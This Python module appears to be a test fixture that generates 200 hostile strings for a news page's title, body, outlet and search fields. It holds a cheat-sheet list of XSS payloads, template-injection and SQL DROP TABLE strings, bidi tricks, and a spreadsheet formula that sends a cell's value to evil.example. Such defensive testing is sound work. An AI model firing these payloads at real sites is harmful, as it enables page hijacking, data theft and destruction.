"""Two hundred hostile texts: what an outlet, or who types into the search field, may send to break out of a page."""

from itertools import islice, product

# Each would say {RUN} if a browser ran it; the names of the tricks are those of the usual cheat sheets.
_RUN = "window.ran=(window.ran||0)+1"
_TRICKS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script\n>{run}</script\n>",
    "</title><script>{run}</script>",
    "</h1></article></main><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<img src=x onerror={run}>",
    '"><img src=x onerror="{run}">',
    "'><img src=x onerror='{run}'>",
    "` onmouseover={run} x=`",
    '" autofocus onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<marquee onstart={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run} id=x>اضغط هنا</a>",
    "<a href='java\tscript:{run}'>اضغط</a>",
    "<form action=javascript:{run}><button>إرسال</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{display:none}}</style>",
    "<div style=position:fixed;inset:0;background:red>",
    "<template><script>{run}</script></template>",
    "<div hx-get=/ hx-trigger=load hx-on:load={run}>",
    "<p data-hx-on:htmx:load='{run}'>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "%3Cscript%3E{run}%3C/script%3E",
    "{{{{ desk.library.folder }}}} {{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "${{{run}}} #{{{run}}} <%= {run} %>",
    "javascript:{run}//",
    "\N{RIGHT-TO-LEFT OVERRIDE}txet desrever\N{POP DIRECTIONAL FORMATTING} <b>{run}</b>",
    "\N{RIGHT-TO-LEFT ISOLATE}\N{RIGHT-TO-LEFT ISOLATE}\N{LEFT-TO-RIGHT OVERRIDE}نصّ بلا نهاية",
    '=HYPERLINK("http://evil.example?"&A1;"اضغط") {run}',
    "'; DROP TABLE articles; --",
    "\N{LINE SEPARATOR}<script>{run}</script>\N{PARAGRAPH SEPARATOR}",
)
PLACES = ("title", "body", "outlet", "search")


def hostile_texts() -> dict[str, tuple[str, ...]]:
    """Fifty texts for each place, each told apart by its number."""
    numbered = ((place, f"خبر {number} {trick.format(run=_RUN)}") for number, (place, trick) in enumerate(product(PLACES, _TRICKS), 1))
    texts = dict.fromkeys(PLACES, ())  # type: dict[str, tuple[str, ...]]
    for place, text in islice(numbered, 200):
        texts[place] += (text,)
    return texts
